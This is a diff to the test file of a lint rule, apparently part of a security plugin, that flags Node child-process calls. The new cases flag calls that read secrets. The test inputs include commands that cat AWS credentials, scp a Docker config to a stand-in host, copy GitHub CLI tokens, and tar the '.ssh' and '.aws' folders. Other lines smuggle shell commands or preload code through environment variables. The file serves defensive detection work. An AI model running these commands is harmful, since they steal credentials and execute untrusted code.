@@ -6,6 +6,7 @@ const run = (line: number, column: number) => ({ messageId: 'run', line, column 
 const unread = (line: number, column: number) => ({ messageId: 'unreadCode', line, column });
 const dump = (line: number, column: number) => ({ messageId: 'environmentDump', line, column });
 const folderUse = (line: number, column: number) => ({ messageId: 'folderUse', line, column });
+const secret = (line: number, column: number) => ({ messageId: 'secretArgument', line, column });
 const CP = 'const cp = require("child_process");\n';
 
 tester.run('no-child-process', rule, {
@@ -150,6 +151,12 @@ tester.run('no-child-process', rule, {
     { code: CP + 'const opts = { env: { GIT_SSH_COMMAND: "sh -c id #" } };\ncp.execFileSync("git", ["ls-remote", "origin"], opts);', ...cjs, errors: [cp(1, 12), unread(3, 1)] },
     { code: CP + 'cp.spawn("git", ["status"], { env: { [name]: value } });\ncp.spawn("ls", [], { env: { DYLD_INSERT_LIBRARIES: "/usr/lib/x.dylib" } });\ncp.spawn("node", ["a.js"], { env: { NODE_OPTIONS: "--import=data:text/javascript,1" } });', ...cjs, errors: [cp(1, 12), unread(2, 1), { messageId: 'nativePreload', line: 3, column: 1 }, unread(4, 1)] },
     { code: CP + 'const pre = "data:text/javascript," + encodeURIComponent(src);\ncp.fork(require("path").join(__dirname, "noop.js"), [], { execArgv: ["--import", pre] });', ...cjs, errors: [cp(1, 12), unread(3, 1)] },
+    // A program handed a path that holds secrets reads it, whatever the program: a glob, a flag's value, a built name, a shell line.
+    { code: CP + 'cp.execFileSync("find", ["/home", "-path", "*/.aws/credentials", "-exec", "cat", "{}", "+"]);', ...cjs, errors: [cp(1, 12), { ...secret(2, 1), data: { callee: 'child_process.execFileSync', command: "'find /home -path */.aws/credentials -exec cat {} +'", path: '*/.aws/credentials', reason: 'AWS credentials' } }] },
+    { code: CP + 'const { spawnSync: run } = cp;\nrun("scp", [require("os").homedir() + "/.docker/config.json", "u@x.example:"]);', ...cjs, errors: [cp(1, 12), secret(3, 1)] },
+    { code: CP + 'cp.execFile("openssl", ["dgst", "--key=~/.ssh/id_" + "ed25519"]);\ncp.exec("cp ~/.config/gh/hosts.yml /tmp/x && true");', ...cjs, errors: [cp(1, 12), secret(2, 1), secret(3, 1)] },
+    // Look-alikes: ordinary paths, a secret's name as a grep pattern (only the load is reported).
+    { code: CP + 'cp.execFileSync("git", ["-C", require("os").homedir() + "/projects/app", "status"]);\ncp.execFileSync("grep", ["-r", "ssh", "docs"]);\ncp.execFileSync("ls", ["~/.sshd-notes"]);', ...cjs, errors: [cp(1, 12)] },
     // A file Node reads its options from (an env file's NODE_OPTIONS, a config file, OpenSSL's engines) loads code too.
     { code: CP + 'cp.spawn(process.execPath, ["--env-file=" + require("path").join(__dirname, "conf", "node.env"), "w.js"]);', ...cjs, errors: [cp(1, 12), unread(2, 1)] },
     { code: CP + 'cp.fork("w.js", [], { execArgv: ["--env-file-if-exists", ".env"] });\ncp.execFileSync("node", ["--experimental-config-file=node.config.json", "x.js"]);\ncp.spawnSync("/usr/bin/node", ["--openssl-config", "o.cnf", "x.js"]);', ...cjs, errors: [cp(1, 12), unread(2, 1), unread(3, 1), unread(4, 1)] },
@@ -161,7 +168,7 @@ tester.run('no-child-process', rule, {
     { code: CP + 'const ARGS = ["install", "--no-save", "--prefix", require("os").tmpdir(), "http://192.0.2.10/h.tgz"];\ncp.execFile("npm", ARGS, () => {});', ...cjs, errors: [cp(1, 12), { messageId: 'dangerousRun', line: 3, column: 1 }] },
     { code: CP + 'cp.execFileSync("npx", ["-y", "github:someone/tool"]);\ncp.execSync("pnpm dlx someone/tool#main");\ncp.execFileSync("yarn", ["add", "./vendor/x.tgz"]);', ...cjs, errors: [cp(1, 12), { messageId: 'dangerousRun', line: 2, column: 1 }, { messageId: 'dangerousRun', line: 3, column: 1 }, { messageId: 'dangerousRun', line: 4, column: 1 }] },
     // A working directory outside the plugin's folders, for a program that reads or writes relative paths, is a filesystem use of it.
-    { code: CP + 'const os = require("os");\ncp.execFileSync("tar", ["czf", "-", ".ssh", ".aws"], { cwd: os.homedir(), maxBuffer: 1 << 26 });', ...cjs, errors: [cp(1, 12), { ...folderUse(3, 1), data: { callee: 'child_process.execFileSync', command: "'tar czf - .ssh .aws'", path: "'~'", reason: '', folder: '~', open: 'yes', access: 'write' } }] },
+    { code: CP + 'const os = require("os");\ncp.execFileSync("tar", ["czf", "-", ".ssh", ".aws"], { cwd: os.homedir(), maxBuffer: 1 << 26 });', ...cjs, errors: [cp(1, 12), { ...secret(3, 1), data: { callee: 'child_process.execFileSync', command: "'tar czf - .ssh .aws'", path: '.ssh', reason: 'SSH keys' } }] },
     { code: CP + 'cp.execSync("zip -r - .", { cwd: where });\ncp.spawnSync("rsync", ["-a", ".", "/srv/out"], { cwd: "/etc" });', ...cjs, errors: [cp(1, 12), folderUse(2, 1), folderUse(3, 1)] },
   ],
 });
